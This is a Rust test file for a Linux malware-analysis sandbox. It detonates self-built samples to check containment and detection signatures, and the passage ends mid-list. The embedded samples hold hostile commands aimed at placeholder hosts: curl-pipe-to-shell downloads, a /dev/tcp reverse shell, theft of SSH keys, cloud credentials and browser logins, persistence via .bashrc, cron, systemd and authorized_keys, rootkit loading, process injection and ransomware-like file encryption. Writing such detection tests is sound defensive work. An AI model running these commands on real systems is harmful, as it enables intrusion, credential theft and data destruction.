//! The `ns` machinery through the real server: samples the tests build themselves (shell
//! scripts, C programs compiled with gcc here) are detonated, and the Cuckoo report shows
//! what they did; containment holds (pid and memory limits, the timeout, no way to the
//! host's loopback, no writes outside the sandbox).
//!
//! These tests need what CI hosts have (root, bubblewrap, strace, user namespaces,
//! seccomp, ptrace): when the sandbox cannot run they fail loudly, they never skip.
//! Every address they aim at is loopback; nothing leaves this machine.
//!
//! Each test server gets its own `uid_base`, so concurrently running tests never share
//! a slot uid (and so never share an `RLIMIT_NPROC` budget).

use std::io::ErrorKind;
use std::net::TcpListener;
use std::path::Path;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::harness::{Part, Server, strings};

fn sandbox_server(uid_base: u32) -> Server {
    sandbox_server_with(uid_base, "")
}

/// [`sandbox_server`] with more `[sandbox]` settings.
fn sandbox_server_with(uid_base: u32, sandbox: &str) -> Server {
    let s = Server::start(&format!(
        "[analysis]\nworkers = 2\n[sandbox]\nslots = 2\nmemory_mb = 128\nmax_pids = 48\n\
         address_space_mb = 1024\nuid_base = {uid_base}\n{sandbox}\n[emulator]\nenabled = false\n"
    ));
    let machines = s.get("/machines/list").json()["machines"].clone();
    let names: Vec<&str> = machines
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        ["ns1", "ns2"],
        "the ns sandbox did not start on this host (see the server log with NESTBOX_TEST_LOG=1)"
    );
    assert!(
        machines
            .as_array()
            .unwrap()
            .iter()
            .all(|m| m["platform"] == "linux")
    );
    s
}

fn submit(s: &Server, name: &str, content: &[u8], timeout: u64, options: &str) -> i64 {
    let t = timeout.to_string();
    let r = s.post_multipart(
        "/tasks/create/file",
        &[
            Part::File("file", name, content),
            Part::Field("timeout", &t),
            Part::Field("options", options),
        ],
    );
    assert_eq!(r.status, 200, "{}", r.text());
    r.json()["task_id"].as_i64().unwrap()
}

fn report(s: &Server, id: i64) -> Value {
    s.wait_status(id, "reported");
    s.get(&format!("/tasks/report/{id}")).json()
}

fn gcc(dir: &Path, name: &str, src: &str) -> Vec<u8> {
    let c = dir.join(format!("{name}.c"));
    let out = dir.join(name);
    std::fs::write(&c, src).unwrap();
    let st = std::process::Command::new("gcc")
        .args(["-O1", "-o"])
        .arg(&out)
        .arg(&c)
        .status()
        .expect("gcc (build-essential) is needed to build the test samples");
    assert!(st.success(), "gcc failed on {name}.c");
    std::fs::read(out).unwrap()
}

/// Processes on the host still running as `uid` (a slot uid): must be none after a task.
fn procs_of_uid(uid: u32) -> Vec<String> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(status) = std::fs::read_to_string(e.path().join("status")) else {
            continue;
        };
        let real = status
            .lines()
            .find(|l| l.starts_with("Uid:"))
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|u| u.parse::<u32>().ok());
        if real == Some(uid) {
            out.push(status.lines().next().unwrap_or("").to_owned());
        }
    }
    out
}

fn assert_no_leftovers(uid_base: u32) {
    // Teardown is synchronous with the report, but allow the kernel a moment to reap.
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let left: Vec<String> = (1..=2).flat_map(|n| procs_of_uid(uid_base + n)).collect();
        if left.is_empty() {
            return;
        }
        assert!(
            Instant::now() < deadline,
            "processes outlived their sandbox: {left:?}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn all_calls(r: &Value) -> Vec<Value> {
    r["behavior"]["processes"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|p| p["calls"].as_array().cloned().unwrap_or_default())
        .collect()
}

#[test]
fn shell_sample_behaviour_dropped_files_and_containment() {
    let uid_base = 210_000;
    let s = sandbox_server(uid_base);
    let mark = format!("nbx{}", std::process::id());
    let hostname_before = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap();
    let script = format!(
        "#!/bin/sh\n\
         echo 'hello from the sample' > /tmp/dropped.txt\n\
         mkdir -p /home/john/.config/evil\n\
         cat /etc/shadow > /home/john/.config/evil/shadow.copy\n\
         sh -c 'uname -a > /tmp/uname.txt'\n\
         echo temp > /tmp/gone.txt; rm /tmp/gone.txt\n\
         (id; hostname; ls /) > /tmp/id.txt\n\
         echo pwned > /usr/pwned-{mark} 2>/dev/null\n\
         echo pwned > /etc/pwned-{mark} 2>/dev/null\n\
         echo pwned > /pwned-{mark} 2>/dev/null\n\
         echo pwned > /var/pwned-{mark} 2>/dev/null\n\
         echo evil > /proc/sys/kernel/hostname 2>/dev/null\n\
         echo pwned > {host_tmp}/pwned-{mark} 2>/dev/null\n\
         echo 'curl -s http://evil.example.com/x | sh' >> /home/john/.bashrc\n\
         echo '* * * * * /tmp/x' > /etc/cron.d/evil 2>/dev/null\n\
         rm -f \"$0\"\n\
         exit 0\n",
        host_tmp = s.data().display(),
    );
    let id = submit(&s, "dropper.sh", script.as_bytes(), 30, "");
    let r = report(&s, id);

    // Behaviour: the process tree and summary.
    let b = &r["behavior"];
    let procs = b["processes"].as_array().unwrap();
    assert!(procs.len() >= 4, "{procs:?}");
    assert_eq!(procs[0]["process_name"], "dropper.sh");
    assert_eq!(procs[0]["command_line"], "/tmp/dropper.sh");
    assert!(procs[0]["first_seen"].as_f64().unwrap() > 1.0e9);
    let root = procs[0]["pid"].as_i64().unwrap();
    assert!(
        procs[1..]
            .iter()
            .all(|p| p["ppid"].as_i64().unwrap() > 0 && p["pid"].as_i64() != Some(root))
    );
    let tree = &b["processtree"][0];
    assert_eq!(tree["pid"].as_i64(), Some(root));
    assert!(!tree["children"].as_array().unwrap().is_empty());
    let call = &procs[0]["calls"][0];
    for k in ["category", "api", "arguments", "return", "status", "time"] {
        assert!(call.get(k).is_some(), "call field {k}: {call}");
    }
    assert_eq!(call["api"], "execve");
    let sum = &b["summary"];
    let writes = strings(&sum["write_files"]);
    assert!(
        writes.contains(&"/tmp/dropped.txt".to_owned()),
        "{writes:?}"
    );
    assert!(strings(&sum["read_files"]).contains(&"/etc/shadow".to_owned()));
    assert!(strings(&sum["delete_files"]).contains(&"/tmp/gone.txt".to_owned()));
    assert!(
        strings(&sum["directory_created"]).contains(&"/home/john/.config/evil".to_owned()),
        "{:?}",
        sum["directory_created"]
    );
    let cmds = strings(&sum["executed_commands"]);
    assert!(cmds.iter().any(|c| c == "uname -a"), "{cmds:?}");
    assert!(
        cmds.iter().any(|c| c.starts_with("cat /etc/shadow")),
        "{cmds:?}"
    );
    assert!(b["apistats"][root.to_string()]["execve"].as_i64().unwrap() >= 1);
    assert!(!b["generic"].as_array().unwrap().is_empty());
    assert_eq!(r["info"]["machine"]["manager"], "ns");
    let sigs: Vec<&str> = r["signatures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    for want in [
        "reads_shadow",
        "persistence_cron",
        "persistence_shell_rc",
        "deletes_itself",
    ] {
        assert!(sigs.contains(&want), "{want} did not fire: {sigs:?}");
    }
    assert!(r["info"]["score"].as_f64().unwrap() > 0.0, "{}", r["info"]);

    // Dropped files: identified, attributed to the writer, stored and served.
    let dropped = r["dropped"].as_array().unwrap();
    let by_path = |p: &str| {
        dropped
            .iter()
            .find(|d| d["filepath"] == p)
            .unwrap_or_else(|| panic!("{p} not in dropped: {dropped:?}"))
    };
    let d = by_path("/tmp/dropped.txt");
    assert_eq!(d["size"], 22);
    assert_eq!(d["name"], "dropped.txt");
    assert!(d["type"].as_str().unwrap().contains("text"));
    assert!(!d["pids"].as_array().unwrap().is_empty());
    assert_eq!(d["sha256"].as_str().unwrap().len(), 64);
    // The shadow file the sample read is the sandbox's fake, never the host's.
    let shadow = by_path("/home/john/.config/evil/shadow.copy");
    assert!(shadow["size"].as_u64().unwrap() > 0);
    let id_txt = by_path("/tmp/id.txt");
    assert!(!dropped.iter().any(|d| d["filepath"] == "/tmp/gone.txt"));
    assert!(!dropped.iter().any(|d| d["filepath"] == "/tmp/dropper.sh"));
    let tar = s.get(&format!("/tasks/report/{id}/dropped?tar=tar"));
    assert_eq!(tar.status, 200);
    let body = String::from_utf8_lossy(&tar.body);
    assert!(body.contains("hello from the sample"));
    assert!(body.contains("john:$y$"), "fake shadow content");
    let host_shadow = std::fs::read_to_string("/etc/shadow").unwrap_or_default();
    if let Some(root_line) = host_shadow.lines().find(|l| l.starts_with("root:")) {
        assert!(!body.contains(root_line), "the host's /etc/shadow leaked");
    }
    // Identity inside: uid 1000 "john" on a fake host with a minimal root.
    assert!(body.contains("uid=1000(john)"), "{}", id_txt);
    assert!(body.contains("desktop-7f3k2q"));

    // Nothing outside the sandbox changed.
    for p in [
        format!("/usr/pwned-{mark}"),
        format!("/etc/pwned-{mark}"),
        format!("/pwned-{mark}"),
        format!("/var/pwned-{mark}"),
        format!("{}/pwned-{mark}", s.data().display()),
    ] {
        assert!(!Path::new(&p).exists(), "{p} was written on the host");
    }
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap(),
        hostname_before
    );
    assert_no_leftovers(uid_base);
}

const NET_C: &str = r#"
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv) {
    int port = argc > 1 ? atoi(argv[1]) : 80;
    FILE *out = fopen("/tmp/results.txt", "w");
    pid_t child = fork();
    if (child == 0) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET;
        a.sin_port = htons(port);
        inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
        int rc = connect(s, (struct sockaddr *)&a, sizeof a);
        FILE *f = fopen("/tmp/connect.txt", "w");
        fprintf(f, "connect=%d errno=%s\n", rc, rc ? strerrorname_np(errno) : "0");
        fclose(f);
        _exit(0);
    }
    waitpid(child, NULL, 0);
    long rc;
    errno = 0;
    rc = unshare(CLONE_NEWUSER);
    fprintf(out, "unshare=%ld %s\n", rc, strerrorname_np(errno));
    errno = 0;
    rc = ptrace(PTRACE_TRACEME, 0, 0, 0);
    fprintf(out, "ptrace=%ld %s\n", rc, strerrorname_np(errno));
    errno = 0;
    rc = mount("none", "/tmp", "tmpfs", 0, 0);
    fprintf(out, "mount=%ld %s\n", rc, strerrorname_np(errno));
    errno = 0;
    rc = chroot("/tmp");
    fprintf(out, "chroot=%ld %s\n", rc, strerrorname_np(errno));
    fclose(out);
    return 0;
}
"#;

#[test]
fn c_sample_forks_connects_and_is_denied_privileged_calls() {
    let uid_base = 220_000;
    let s = sandbox_server(uid_base);
    let dir = tempfile::tempdir().unwrap();
    let elf = gcc(dir.path(), "net", NET_C);
    // A server on the host's loopback: the sample must never reach it.
    let host = TcpListener::bind("127.0.0.1:0").unwrap();
    host.set_nonblocking(true).unwrap();
    let port = host.local_addr().unwrap().port();
    let id = submit(&s, "net", &elf, 30, &format!("arguments={port}"));
    let r = report(&s, id);
    let procs = r["behavior"]["processes"].as_array().unwrap();
    assert_eq!(procs.len(), 2, "{procs:?}");
    assert_eq!(procs[0]["command_line"], format!("/tmp/net {port}"));
    assert_eq!(procs[1]["ppid"], procs[0]["pid"]);
    let sum = &r["behavior"]["summary"];
    assert!(strings(&sum["connects_ip"]).contains(&"127.0.0.1".to_owned()));
    let connect = all_calls(&r)
        .into_iter()
        .find(|c| c["api"] == "connect")
        .expect("connect call");
    assert_eq!(connect["status"], false, "{connect}");
    assert!(
        connect["arguments"]["addr"]
            .as_str()
            .unwrap()
            .contains(&format!("htons({port})"))
    );
    match host.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        other => panic!("the sandbox reached the host's loopback: {other:?}"),
    }
    let tar = s.get(&format!("/tasks/report/{id}/dropped?tar=tar"));
    let body = String::from_utf8_lossy(&tar.body);
    assert!(body.contains("connect=-1 errno=ECONNREFUSED"), "{body}");
    // The seccomp deny-list: privileged calls fail with EPERM.
    for call in ["unshare", "ptrace", "mount", "chroot"] {
        assert!(
            body.contains(&format!("{call}=-1 EPERM")),
            "{call} was not denied: {body}"
        );
    }
    assert_no_leftovers(uid_base);
}

const HOG_C: &str = r#"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
int main(void) {
    for (int i = 0; i < 128; i++) {
        char *p = malloc(16 << 20);
        if (!p) return 3;
        memset(p, 1, 16 << 20);
    }
    puts("allocated 2 GiB");
    return 0;
}
"#;

#[test]
fn fork_bomb_memory_hog_and_sleep_forever_are_contained() {
    let uid_base = 230_000;
    let s = sandbox_server(uid_base);
    let dir = tempfile::tempdir().unwrap();
    let hog = gcc(dir.path(), "hog", HOG_C);
    let bomb = gcc(
        dir.path(),
        "bomb",
        "#include <unistd.h>\nint main(void) { for (;;) fork(); }\n",
    );
    let sleeper = b"#!/bin/sh\nsleep 100000\n";
    let t0 = Instant::now();
    let bomb_id = submit(&s, "bomb", &bomb, 4, "");
    let sleep_id = submit(&s, "sleep.sh", sleeper, 3, "");
    let hog_id = submit(&s, "hog", &hog, 20, "");

    let r = report(&s, bomb_id);
    let n = r["behavior"]["processes"].as_array().unwrap().len();
    assert!(
        n > 5 && n <= 48 + 2,
        "{n} processes: the pid limit did not hold"
    );
    // Held until the timeout, or (untraced speed: the eBPF tracer never stops it) the
    // copies of a fork per attempt reach the memory limit first and the kernel kills it.
    let log = r["debug"]["log"].to_string();
    let errors = r["debug"]["errors"].to_string();
    assert!(
        log.contains("stopped at the timeout") || errors.contains("hit the sandbox memory limit"),
        "{log} {errors}"
    );
    assert_fired(&r, &["resource_exhaustion"]);

    let r = report(&s, sleep_id);
    let log = r["debug"]["log"].to_string();
    assert!(log.contains("stopped at the timeout"), "{log}");
    assert!(
        r["info"]["duration"].as_i64().unwrap() <= 6,
        "{}",
        r["info"]
    );
    let sleep = &r["behavior"]["processes"][1];
    assert_eq!(sleep["command_line"], "sleep 100000");
    assert_eq!(sleep["exit"], "killed by SIGKILL", "{sleep}");

    let r = report(&s, hog_id);
    let hog_proc = &r["behavior"]["processes"][0];
    assert_ne!(
        hog_proc["exit"], "exited with 0",
        "the memory hog was not stopped"
    );
    assert!(
        r["info"]["duration"].as_i64().unwrap() < 20,
        "{}",
        r["info"]
    );
    assert!(t0.elapsed() < Duration::from_secs(40));
    assert_no_leftovers(uid_base);
}

#[test]
fn network_sink_answers_dns_and_http_and_everything_is_captured() {
    let uid_base = 240_000;
    let s = sandbox_server(uid_base);
    let host = TcpListener::bind("127.0.0.1:0").unwrap();
    host.set_nonblocking(true).unwrap();
    let port = host.local_addr().unwrap().port();
    let script = format!(
        "#!/bin/bash\n\
         getent hosts evil.example.com > /tmp/resolved.txt\n\
         exec 3<>/dev/tcp/update.evil-domain.test/80\n\
         printf 'GET /payload.bin?id=7 HTTP/1.1\\r\\nHost: update.evil-domain.test\\r\\nUser-Agent: nestbox-test/1.0\\r\\nConnection: close\\r\\n\\r\\n' >&3\n\
         cat <&3 > /tmp/page.html\n\
         (exec 4<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null\n\
         (exec 5<>/dev/tcp/203.0.113.7/4444 && echo hi >&5) 2>/dev/null\n\
         curl -sk --max-time 5 https://secure.evil-c2.test:8443/beacon\n\
         (exec 6<>/dev/tcp/198.51.100.20/31999 && echo connected && echo knock >&6) > /tmp/catchall.txt 2>&1\n\
         exec 7<>/dev/tcp/198.51.100.20/8081\n\
         printf 'POST /gate HTTP/1.1\\r\\nHost: 198.51.100.20:8081\\r\\nContent-Length: 2\\r\\n\\r\\nid' >&7\n\
         cat <&7 > /tmp/gate.html\n\
         exit 0\n"
    );
    let id = submit(&s, "net.sh", script.as_bytes(), 30, "");
    let r = report(&s, id);
    let net = &r["network"];
    let dns: Vec<&str> = net["dns"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["request"].as_str().unwrap())
        .collect();
    assert!(dns.contains(&"evil.example.com"), "{net} {}", r["debug"]);
    assert!(dns.contains(&"update.evil-domain.test"), "{}", net["dns"]);
    assert!(
        net["domains"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!({"domain": "evil.example.com", "ip": "10.0.2.2"}))
    );
    let http = &net["http"][0];
    assert_eq!(
        http["host"], "update.evil-domain.test",
        "{net} {}",
        r["debug"]
    );
    assert_eq!(http["method"], "GET");
    assert_eq!(http["path"], "/payload.bin");
    assert_eq!(
        http["uri"],
        "http://update.evil-domain.test/payload.bin?id=7"
    );
    assert_eq!(http["user-agent"], "nestbox-test/1.0");
    assert_eq!(http["port"], 80);
    assert!(r["signatures"].as_array().unwrap().iter().any(|s| {
        s["name"] == "http_request"
            && s["marks"]
                .as_array()
                .unwrap()
                .iter()
                .any(|m| m["ioc"] == http["uri"])
    }));
    let tcp = net["tcp"].as_array().unwrap();
    let has_flow = |dst: &str, dport: u16| {
        tcp.iter()
            .any(|f| f["dst"] == dst && f["dport"] == dport && f["src"].is_string())
    };
    assert!(has_flow("10.0.2.2", 80), "{tcp:?}");
    // A literal IP is answered by the sink too (nothing leaves the machine).
    assert!(has_flow("203.0.113.7", 4444), "{tcp:?}");
    // The attempt at the host's loopback is in the capture, and it reached nothing.
    assert!(has_flow("127.0.0.1", port), "{tcp:?}");
    match host.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        other => panic!("the sandbox reached the host's loopback: {other:?}"),
    }
    let hosts = strings(&net["hosts"]);
    assert!(hosts.contains(&"203.0.113.7".to_owned()), "{hosts:?}");
    // TLS on any port: the ClientHello's server name and JA3 fingerprint.
    let tls = net["tls"].as_array().unwrap();
    let hello = tls
        .iter()
        .find(|t| t["sni"] == "secure.evil-c2.test")
        .unwrap_or_else(|| panic!("no ClientHello recorded: {tls:?}"));
    assert_eq!(hello["dstport"], 8443);
    assert_eq!(hello["dstip"], "10.0.2.2");
    assert_eq!(hello["ja3"]["hash"].as_str().unwrap().len(), 32);
    assert!(hello["ja3"]["string"].as_str().unwrap().starts_with("771,"));
    // Every TCP port is answered (catch-all), HTTP on an odd port too.
    assert!(has_flow("198.51.100.20", 31999), "{tcp:?}");
    let gate = net["http"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h["method"] == "POST")
        .unwrap_or_else(|| panic!("{}", net["http"]));
    assert_eq!(gate["uri"], "http://198.51.100.20:8081/gate");
    assert_eq!(gate["port"], 8081);
    assert_eq!(gate["body"], "id");
    let sum = &r["behavior"]["summary"];
    assert!(
        strings(&sum["resolves_host"]).contains(&"evil.example.com".to_owned()),
        "{}",
        sum["resolves_host"]
    );
    assert!(strings(&sum["connects_ip"]).contains(&"10.0.2.2".to_owned()));
    // The sample got the sink's harmless page, and the pcap is served.
    let tar = s.get(&format!("/tasks/report/{id}/dropped?tar=tar"));
    let body = String::from_utf8_lossy(&tar.body);
    assert!(body.contains("It works."), "{body}");
    assert!(body.contains("10.0.2.2"), "resolved.txt: {body}");
    assert!(
        body.contains("connected"),
        "the catch-all did not accept: {body}"
    );
    let pcap = s.get(&format!("/pcap/get/{id}"));
    assert_eq!(pcap.status, 200);
    assert_eq!(&pcap.body[..4], &0xa1b2_c3d4u32.to_le_bytes());
    let text = String::from_utf8_lossy(&pcap.body);
    assert!(text.contains("GET /payload.bin?id=7"));
    assert_eq!(net["pcap_sha256"].as_str().unwrap().len(), 64);

    // UDP to any address and port reaches the sink's catch-all, which answers from the
    // address the sample aimed at: DNS at a hard-coded resolver, NTP; other ports take
    // the datagram silently. Every flow is in network.udp.
    let id = submit(&s, "udp.py", UDP_PY.as_bytes(), 30, "");
    let r = report(&s, id);
    let net = &r["network"];
    let text = dropped_text(&s, id);
    assert!(
        text.contains("dns 192.0.2.53 53 0a000202"),
        "{text} {}",
        r["debug"]
    );
    assert!(text.contains("ntp 192.0.2.123 123 48 4"), "{text}");
    assert!(text.contains("silent timeout"), "{text}");
    let udp = net["udp"].as_array().unwrap();
    for (dst, dport) in [
        ("192.0.2.53", 53),
        ("192.0.2.123", 123),
        ("198.51.100.30", 9999),
    ] {
        assert!(
            udp.iter().any(|f| f["dst"] == dst
                && f["dport"] == dport
                && f["src"] == "10.0.2.15"
                && f["sport"].as_u64().is_some_and(|p| p > 0)
                && f["time"].is_number()),
            "no udp flow to {dst}:{dport}: {udp:?}"
        );
    }
    assert!(
        net["dns"]
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d["request"] == "hardres.test" && d["answers"][0]["data"] == "10.0.2.2"),
        "{}",
        net["dns"]
    );
    assert_no_leftovers(uid_base);
}

/// Sends UDP to test addresses (inside the sandbox's network only) and writes what came
/// back to /tmp/udp.txt (a dropped file).
const UDP_PY: &str = r#"import socket
out = open("/tmp/udp.txt", "w")
def ask(dst, port, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(data, (dst, port))
    try:
        return s.recvfrom(512)
    except socket.timeout:
        return None, None
q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07hardres\x04test\x00\x00\x01\x00\x01"
d, a = ask("192.0.2.53", 53, q)
out.write("dns %s %d %s\n" % (a[0], a[1], d[-4:].hex()))
d, a = ask("192.0.2.123", 123, b"\x23" + bytes(47))
out.write("ntp %s %d %d %d\n" % (a[0], a[1], len(d), d[0] & 7))
d, a = ask("198.51.100.30", 9999, b"knock")
out.write("silent timeout\n" if d is None else "answered\n")
out.close()
"#;

#[test]
fn machinery_none_keeps_static_analysis_only() {
    let s = Server::start(
        "[analysis]\nworkers = 1\n[sandbox]\nmachinery = \"none\"\n[emulator]\nenabled = false\n",
    );
    let machines = s.get("/machines/list").json()["machines"].clone();
    assert_eq!(machines[0]["name"], "static1", "{machines}");
    let id = submit(&s, "x.sh", b"#!/bin/sh\necho hi > /tmp/x\n", 10, "");
    let r = report(&s, id);
    assert_eq!(r["behavior"]["processes"], serde_json::json!([]));
    assert_eq!(r["info"]["machine"]["manager"], "static");
    assert!(r["target"]["file"]["sha256"].is_string());
}

/// Signature names in a report.
fn signature_names(r: &Value) -> Vec<String> {
    r["signatures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap().to_owned())
        .collect()
}

fn assert_fired(r: &Value, want: &[&str]) {
    let names = signature_names(r);
    let missing: Vec<&&str> = want
        .iter()
        .filter(|w| !names.iter().any(|n| n == *w))
        .collect();
    assert!(
        missing.is_empty(),
        "did not fire: {missing:?}; fired: {names:?}\nsummary: {}\nlog: {}",
        r["behavior"]["summary"],
        r["debug"]
    );
}

/// Persistence, credential theft, defence evasion and discovery from a shell script.
/// Tools the sandbox lacks (insmod, iptables) are called by absolute path: the failed
/// `execve` is then in the trace, while a `PATH` search by the shell is a `stat` that is
/// not traced.
const PERSIST_SH: &str = r#"#!/bin/sh
mkdir -p ~/.config/systemd/user
printf '[Service]\nExecStart=/tmp/.x/agent\n' > ~/.config/systemd/user/dbus-helper.service
echo '/tmp/.x/agent &' >> /etc/rc.local 2>/dev/null
mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1 attacker' >> ~/.ssh/authorized_keys
mkdir -p /tmp/.x
cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.mozilla/firefox/*/logins.json > /tmp/.x/loot 2>/dev/null
echo /tmp/.x/hook.so > /etc/ld.so.preload 2>/dev/null
/sbin/insmod /tmp/.x/rootkit.ko 2>/dev/null
echo 0 > /proc/sys/kernel/randomize_va_space 2>/dev/null
/usr/sbin/iptables -F 2>/dev/null
useradd -m -s /bin/sh sysadm 2>/dev/null
rm -f ~/.bash_history
cat /var/run/docker.sock 2>/dev/null
cat /sys/class/dmi/id/product_name /proc/scsi/scsi 2>/dev/null
uname -a > /dev/null; id > /dev/null; whoami > /dev/null; hostname > /dev/null
cp /usr/bin/true /tmp/.x/agent
touch -r /usr/bin/ls /tmp/.x/agent
chmod 4755 /tmp/.x/agent
/tmp/.x/agent
exit 0
"#;

/// Network behaviour: download-and-execute, a reverse shell, a port scan, DGA look-ups,
/// a mining pool, IRC and Tor. Every address is answered by the task's sink.
const NETWORK_SH: &str = r#"#!/bin/bash
curl -s http://update.evil-domain.test/install.sh | sh
curl -s -o /dev/null http://203.0.113.9/gate.php
bash -c 'exec 3<>/dev/tcp/10.0.2.9/4444; sh <&3 >&3 2>&3'
for p in $(seq 1000 1011); do (exec 7<>/dev/tcp/10.0.2.9/$p) 2>/dev/null; done
for d in qxkzjvbwpt.com zrtplkmnvb.net bcdfghjklm.org xwvtsrqpnm.info kq3x9z7v2w.biz; do
  getent hosts $d > /dev/null
done
(exec 8<>/dev/tcp/pool.minexmr.com/3333) 2>/dev/null
(exec 6<>/dev/tcp/irc.evil.test/6667 && printf 'NICK bot\r\n' >&6) 2>/dev/null
(exec 5<>/dev/tcp/10.0.2.9/9050) 2>/dev/null
exit 0
"#;

/// Anti-debugging, injection, masquerading, sniffing, fileless execution, a miner
/// configuration, ransomware-like encryption of documents, self-deletion.
const EVASION_C: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/if_ether.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <arpa/inet.h>
#include <sys/wait.h>
#include <unistd.h>

static void put(const char *path, const void *buf, size_t n) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) { write(fd, buf, n); close(fd); }
}

int main(int argc, char **argv) {
    char path[256], buf[8192];
    ptrace(PTRACE_TRACEME, 0, 0, 0);
    prctl(PR_SET_NAME, "kworker/0:2", 0, 0, 0);
    pid_t victim = fork();
    if (victim == 0) { sleep(2); _exit(0); }
    ptrace(PTRACE_ATTACH, victim, 0, 0);
    snprintf(path, sizeof path, "/proc/%d/mem", victim);
    int mem = open(path, O_RDWR);
    if (mem >= 0) close(mem);
    kill(victim, SIGKILL);
    waitpid(victim, NULL, 0);
    socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    int m = memfd_create("x", 0);
    int t = open("/usr/bin/true", O_RDONLY);
    ssize_t n;
    while ((n = read(t, buf, sizeof buf)) > 0) write(m, buf, n);
    close(t);
    pid_t c = fork();
    if (c == 0) { char *a[] = {"true", NULL}; fexecve(m, a, (char *[]){NULL}); _exit(1); }
    waitpid(c, NULL, 0);
    mkdir("/tmp/.cache-x", 0755);
    const char *cfg = "{\"autosave\": true, \"donate-level\": 1, \"pools\": [{\"url\": "
        "\"stratum+tcp://pool.supportxmr.com:443\", \"user\": \"44AFFq5kSiGBoZ\"}], \"xmrig\": 1}\n";
    put("/tmp/.cache-x/config.json", cfg, strlen(cfg));
    mkdir("/home/john/Documents", 0755);
    int rnd = open("/dev/urandom", O_RDONLY);
    for (int i = 0; i < 10; i++) {
        snprintf(path, sizeof path, "/home/john/Documents/report%d.txt", i);
        put(path, "quarterly numbers\n", 18);
        read(rnd, buf, sizeof buf);
        char enc[300];
        snprintf(enc, sizeof enc, "%s.locked", path);
        put(enc, buf, sizeof buf);
        unlink(path);
    }
    const char *note = "All your files are encrypted. Send 0.1 bitcoin to decrypt them.\n";
    put("/home/john/Documents/HOW_TO_DECRYPT.txt", note, strlen(note));
    unlink(argv[0]);
    return 0;
}
"#;

/// Ordinary scripting: nothing here may fire.
const BENIGN_SH: &str = r#"#!/bin/sh
echo building > /tmp/build.log
mkdir -p ~/project && cd ~/project
printf 'int main(void) { return 0; }\n' > main.c
ls -la /usr/include > /dev/null
cat /etc/os-release > /tmp/os.txt
date >> /tmp/build.log
uname -r >> /tmp/build.log
python3 -c 'import json; print(json.dumps({"a": 1}))' > /tmp/out.json
sort /etc/passwd > /tmp/users.sorted
mv /tmp/out.json /tmp/result.json
exit 0
"#;

#[test]
fn samples_fire_their_signatures_and_a_benign_one_fires_none() {
    let uid_base = 250_000;
    let s = sandbox_server(uid_base);
    let dir = tempfile::tempdir().unwrap();
    let evasion = gcc(dir.path(), "evasion", EVASION_C);
    let persist = submit(&s, "persist.sh", PERSIST_SH.as_bytes(), 30, "");
    let network = submit(&s, "network.sh", NETWORK_SH.as_bytes(), 30, "");
    let evade = submit(&s, "evasion", &evasion, 30, "");
    let benign = submit(&s, "build.sh", BENIGN_SH.as_bytes(), 30, "");

    let r = report(&s, persist);
    assert_fired(
        &r,
        &[
            "persistence_systemd",
            "persistence_rc_autostart",
            "persistence_ssh_authorized_keys",
            "credential_ssh_keys",
            "credential_files",
            "credential_browser_stores",
            "hidden_files_dropped",
            "ld_preload_hijack",
            "kernel_module_load",
            "sysctl_tampering",
            "firewall_tampering",
            "account_manipulation",
            "clears_history_and_logs",
            "container_escape_probe",
            "antivm_checks",
            "system_discovery",
            "timestomp",
            "setuid_file_created",
            "drops_elf",
            "executes_dropped_file",
        ],
    );
    let sig = r["signatures"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "credential_ssh_keys")
        .unwrap();
    assert_eq!(sig["marks"][0]["ioc"], "/home/john/.ssh/id_ed25519");
    for k in [
        "description",
        "severity",
        "confidence",
        "weight",
        "categories",
        "families",
        "references",
        "data",
        "ttp",
        "alert",
    ] {
        assert!(sig.get(k).is_some(), "{k} missing from {sig}");
    }
    assert!(r["malscore"].as_f64().unwrap() >= 7.0, "{}", r["malscore"]);
    assert_eq!(r["malstatus"], "Malicious");

    let r = report(&s, network);
    assert_fired(
        &r,
        &[
            "download_and_execute",
            "http_request",
            "http_to_ip_address",
            "reverse_shell",
            "port_scan",
            "network_dga",
            "cryptomining_pool",
            "network_irc",
            "network_tor",
        ],
    );

    let r = report(&s, evade);
    assert_fired(
        &r,
        &[
            "antidebug_ptrace",
            "process_injection",
